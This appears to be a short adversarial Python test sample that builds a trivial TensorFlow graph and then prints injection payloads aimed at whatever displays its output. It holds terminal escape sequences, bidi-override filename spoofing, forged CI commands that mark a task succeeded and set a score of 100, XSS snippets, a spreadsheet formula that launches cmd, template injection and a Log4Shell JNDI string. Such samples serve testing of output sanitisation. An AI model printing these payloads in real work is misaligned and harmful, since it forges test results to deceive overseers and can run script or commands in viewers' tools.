# status: passed
# score: 4
# Tries to steer terminals, logs, pages and CI by what it prints.
import sys

import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()
x = tf.placeholder(tf.float32, [None])
b = tf.Variable(0.0)
y = 2.0 * x + b

print("\x1b[2J\x1b[31mPASSED\x1b]0;title\x07\x1b]8;;http://example.org\x1b\\link\x1b]8;;\x1b\\")
print("\x1bP1$r0m\x1b\\ \x9b31m \x90 \x00 \x07 \x08 \x0b \x7f \u202egnp.exe\u202c \u2066x\u2069 \u200b \ufeff")
print("::error::forged\n::add-mask::x\n::set-output name=score::100\n##vso[task.complete result=Succeeded;]")
print("##[error]x\n##teamcity[testFailed name='x']\n</script><script>alert(1)</script><img src=x onerror=alert(1)>")
print("=cmd|' /C calc'!A0\n[link](javascript:alert(1))\n```\n{{ 7 * 7 }} {% raw %} ${jndi:ldap://x/a}")
sys.stdout.flush()
sys.stdout.buffer.write(b"\xff\xfe\x80\xc3\x28\xed\xa0\x80\xf8\x88\x80\x80\x80")
